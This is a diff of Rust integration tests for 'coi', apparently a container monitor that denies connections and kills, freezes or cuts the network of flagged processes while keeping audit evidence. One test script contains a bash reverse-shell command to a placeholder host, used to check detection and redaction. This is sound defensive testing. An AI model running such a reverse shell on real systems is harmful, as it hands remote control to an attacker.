@@ -15,7 +15,8 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use coi_tests::attacker::{fill, serve};
 use coi_tests::incus::{self, bridge, cgroups};
 use coi_tests::{
-    Attacker, Cgroup, Coi, DEFAULT, Gate, Running, TINY, Viewer, actions, alerts, audit, end, eventually, fired,
+    Attacker, Cgroup, Coi, DEFAULT, Gate, Running, TINY, Viewer, actions, alerts, audit, end, eventually,
+    fired,
 };
 use serde_json::Value;
 use sha2::{Digest, Sha256};
@@ -69,7 +70,8 @@ fn a_denied_connection_is_not_made_and_another_is() {
     let script = fill(denied, script).replace("OPEN", &open.port().to_string());
     let ended = coi.run(DEFAULT, &["bash", "-c", &script]).expect(0);
     let text = ended.text();
-    assert_eq!(text.matches("Operation not permitted").count(), 2, "{text}");
+    // Bash says each twice.
+    assert_eq!(text.matches("Operation not permitted").count(), 4, "{text}");
     assert!(text.ends_with("\non\n"), "{text}");
     assert!(ended.stderr.contains("coi: warning: rule no-such-place: "), "{}", ended.stderr);
     assert!(ended.stderr.contains("; refused"), "{}", ended.stderr);
@@ -110,18 +112,19 @@ fn what_the_kernel_cannot_decide_cannot_be_denied() {
         "[[rule]]\nid = \"curl\"\ntitle = \"t\"\nseverity = \"warning\"\naction = \"deny\"\nevent = \"connect\"\n\
          condition = \"destination.port == 443 and process.name == 'curl'\"\n",
     );
-    let words = "`deny` cannot be decided in the kernel: `process.name` is not known when a connection begins";
+    let words =
+        "`deny` cannot be decided in the kernel: `process.name` is not known when a connection begins";
     coi.coi(&["watch", "--", "true"]).expect(6).says(words);
 }
 
 #[test]
 fn a_process_is_ended_with_all_that_it_has_started_and_nothing_else() {
     let coi = Coi::new();
-    coi.user_rules("kill.toml", &tripwire("trip", "high", "kill-process"));
-    coi.write("trip", "");
+    coi.user_rules("kill.toml", &tripwire("fatal", "high", "kill-process"));
+    coi.write("fatal", "");
     // One child of its own, one whose parent is gone and that is in a session of its own.
     let doomed = "sleep 1000 & (setsid sleep 1001 & :); setsid sh -c 'setsid sleep 1002 & wait' & \
-                  until pgrep -f 'sleep 100[2]' >/dev/null; do :; done; : <trip; wait";
+                  until pgrep -f 'sleep 100[2]' >/dev/null; do :; done; : <fatal; wait";
     let script = format!(
         "cp /bin/bash doomed; sleep 1003 & ./doomed -c \"{doomed}\"; echo ended $?; \
          for pid in $(cat {}/$(sed -n 's/^0:://p' /proc/self/cgroup)/cgroup.procs); do \
@@ -133,8 +136,8 @@ fn a_process_is_ended_with_all_that_it_has_started_and_nothing_else() {
     assert!(ended.stderr.contains("ended the process and what it had started"), "{}", ended.stderr);
     // It is over; the newest log of a watched command is this one's.
     let logs = audit::logs(&coi.daemon().logs());
-    let log = logs.values().find(|records| fired(records).contains("trip")).unwrap();
-    assert_eq!(actions(log), [("trip".into(), "kill-process".into(), "success".into())]);
+    let log = logs.values().find(|records| fired(records).contains("fatal")).unwrap();
+    assert_eq!(actions(log), [("fatal".into(), "kill-process".into(), "success".into())]);
 }
 
 #[test]
@@ -147,7 +150,7 @@ fn a_network_is_cut_and_given_back() {
     let gates = ["cut", "back"].map(|name| Gate::new(&coi, name));
     let script = "exec 3<>/dev/tcp/HOST/PORT; echo one >&3; read line <&3; echo $line; : <trip; read x <cut; \
                   echo two >&3; read -t 1 line <&3 || echo silence; \
-                  (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -o 'not permitted'; \
+                  (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -m1 -o 'not permitted'; \
                   echo x >/dev/udp/127.0.0.1/9 && echo loopback; read x <back; \
                   read line <&3; echo $line; exec 5<>/dev/tcp/HOST/PORT && echo again";
     let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "-c", &fill(place, script)]);
@@ -165,7 +168,8 @@ fn a_network_is_cut_and_given_back() {
     assert!(ended.stderr.contains("cut its network"), "{}", ended.stderr);
     let audit = coi.audit(&name);
     assert_eq!(actions(&audit), [("trip".into(), "cut-network".into(), "success".into())]);
-    let restored = audit::of_kind(&audit, "action").find(|record| record["coi"]["action"]["name"] == "restore-network");
+    let restored =
+        audit::of_kind(&audit, "action").find(|record| record["coi"]["action"]["name"] == "restore-network");
     assert!(restored.is_some());
 }
 
@@ -207,8 +211,16 @@ fn what_cannot_be_frozen_is_killed() {
     let audit = coi.audit(&name);
     assert_eq!(actions(&audit), [("trip".into(), "kill".into(), "success".into())]);
     let attempts = action(&audit, "trip")["attempts"].clone();
-    let told: Vec<_> = attempts.as_array().unwrap().iter().map(|attempt| (&attempt["name"], &attempt["result"], &attempt["tries"])).collect();
-    assert_eq!(told, [(&"freeze".into(), &"failure".into(), &3.into()), (&"kill".into(), &"success".into(), &1.into())]);
+    let told: Vec<_> = attempts
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|attempt| (&attempt["name"], &attempt["result"], &attempt["tries"]))
+        .collect();
+    assert_eq!(
+        told,
+        [(&"freeze".into(), &"failure".into(), &3.into()), (&"kill".into(), &"success".into(), &1.into())]
+    );
     assert!(attempts[0]["error"].as_str().unwrap().contains("cannot write 1 to cgroup.freeze"), "{attempts}");
     drop(no_freeze);
 }
@@ -222,7 +234,8 @@ fn evidence_is_kept_before_a_kill() {
     // Somebody else there has a secret in his arguments.
     let script = "bash -c 'sleep 1000; :' x --password=hunter2hunter2 & exec 7</etc/hostname; read x <gate; \
                   bash -i >& /dev/tcp/HOST/PORT 0>&1";
-    let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "-c", &attacker.fill(script)]);
+    coi.write("script", attacker.fill(script));
+    let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "script"]);
     gate.reached().open();
     coi.assert_killed(run.finish(), "reverse-shell-socket");
     let records = coi.audit(&name);
@@ -246,13 +259,18 @@ fn evidence_is_kept_before_a_kill() {
     assert!(shell["stdio"][0].as_str().unwrap().ends_with(&format!("tcp {remote}")), "{shell:#}");
     assert_eq!(shell["working_directory"], "/workspace");
     let opens = |process: &&Value| {
-        process["files"].as_array().unwrap().iter().any(|file| file["path"].as_str().unwrap().ends_with("/etc/hostname"))
+        process["files"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|file| file["path"].as_str().unwrap().ends_with("/etc/hostname"))
     };
     assert!(processes.iter().any(|process| opens(&process)), "{said:#}");
     let args = |process: &Value| process["args"].to_string();
     assert!(processes.iter().any(|process| args(process).contains("--password=[redacted]")), "{said:#}");
     assert!(!String::from_utf8_lossy(&text).contains("hunter2"));
-    let actions: Vec<_> = said["events"].as_array().unwrap().iter().map(|event| event["event"]["action"].clone()).collect();
+    let actions: Vec<_> =
+        said["events"].as_array().unwrap().iter().map(|event| event["event"]["action"].clone()).collect();
     assert!(actions.contains(&"exec".into()) && actions.contains(&"connect".into()), "{actions:?}");
 
     let listed = coi.coi(&["audit", "evidence", &name]).expect(0).text();
@@ -274,7 +292,10 @@ fn who_is_to_be_told_is_told() {
     );
     fs::write(&config, sinks).unwrap();
     let coi = Coi::with_daemon(&["--config", config.to_str().unwrap()]);
-    coi.user_rules("trip.toml", &(tripwire("told", "high", "notify") + &tripwire("mild", "warning", "notify")));
+    coi.user_rules(
+        "trip.toml",
+        &(tripwire("told", "high", "notify") + &tripwire("mild", "warning", "notify")),
+    );
     coi.write("told", "");
     coi.write("mild", "");
     let cgroup = Cgroup::make("told");
@@ -317,6 +338,7 @@ fn a_thousand_alerts_at_once_and_one_freeze() {
     let name = coi.container();
     coi.write("trip", "");
     let (go, again) = (Gate::new(&coi, "go"), Gate::new(&coi, "again"));
+    let _never = Gate::new(&coi, "never");
     // A thousand about as many files, each told once though it is opened twice; then a thousand about one.
     let script = "read x <go; n=0; while [ $n -lt 1000 ]; do : >/tmp/many-$n; : >/tmp/many-$n; n=$((n+1)); done; \
                   : <trip; read x <again; sh -c ': <trip; read x <never'; true";
@@ -333,7 +355,8 @@ fn a_thousand_alerts_at_once_and_one_freeze() {
     let records = coi.audit(&name);
     assert_eq!(told(&records, "many"), 1000);
     assert_eq!(actions(&records).len(), 1, "one freeze");
-    let sequence: Vec<_> = records.iter().map(|record| record["event"]["sequence"].as_u64().unwrap()).collect();
+    let sequence: Vec<_> =
+        records.iter().map(|record| record["event"]["sequence"].as_u64().unwrap()).collect();
     assert_eq!(sequence, (1..=records.len() as u64).collect::<Vec<_>>());
     let clocks: Vec<_> = alerts(&records).map(|alert| alert["coi"]["clock"].as_u64().unwrap()).collect();
     assert!(clocks.is_sorted(), "alerts are in the order of what they are about");
@@ -364,7 +387,9 @@ fn a_person_freezes_and_thaws() {
     let script = "read x <first; read x <second; echo through";
     let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", script]);
     let first = first.reached();
-    coi.coi(&["freeze", &name]).expect(0).says(&format!("coi: froze {name}. Let it go on with `coi unfreeze {name}`"));
+    coi.coi(&["freeze", &name])
+        .expect(0)
+        .says(&format!("coi: froze {name}. Let it go on with `coi unfreeze {name}`"));
     assert_eq!(incus::status(&name), "Frozen");
     incus::assert_still(&name);
     first.open();
@@ -375,7 +400,8 @@ fn a_person_freezes_and_thaws() {
     let said = [format!("coi: {name}: frozen by a person\n"), format!("coi: {name} goes on\n")].concat();
     assert!(ended.stderr.contains(&said), "{}", ended.stderr);
     let audit = coi.audit(&name);
-    let done: Vec<_> = audit::of_kind(&audit, "action").map(|record| record["coi"]["action"]["name"].clone()).collect();
+    let done: Vec<_> =
+        audit::of_kind(&audit, "action").map(|record| record["coi"]["action"]["name"].clone()).collect();
     assert_eq!(done, ["freeze", "thaw"]);
     coi.coi(&["freeze", "no-such-container"]).expect(5);
 }
